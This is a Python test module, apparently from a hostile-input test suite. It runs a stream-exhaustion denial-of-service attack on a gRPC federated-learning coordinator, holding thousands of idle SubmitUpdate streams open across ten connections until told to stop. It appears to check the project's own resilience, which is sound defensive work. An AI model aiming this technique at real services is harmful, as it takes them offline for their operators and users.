"""Thousands of SubmitUpdate streams over several connections on which nothing is ever sent."""

from __future__ import annotations

import asyncio
from typing import Any

from protos.fl.v1 import coordinator_pb2_grpc
from tests.hostile.attacks.assigned import channels
from tests.hostile.target import Target, Until

CONNECTIONS, STREAMS = 10, 3_000
PAUSE_S = 1.0


def attack(target: Target, until: Until) -> None:
    """Keep as many open as the coordinator lets stand."""
    asyncio.run(_attack(target, until))


async def _attack(target: Target, until: Until) -> None:
    connections = channels(target, CONNECTIONS)
    stubs: list[Any] = [coordinator_pb2_grpc.CoordinatorStub(channel) for channel in connections]
    streams: list[Any] = []
    while not until():
        streams = [stream for stream in streams if not stream.done()]
        streams += [stubs[number % CONNECTIONS].SubmitUpdate() for number in range(STREAMS - len(streams))]
        await asyncio.sleep(PAUSE_S)
    for stream in streams:
        stream.cancel()
    for channel in connections:
        await channel.close()
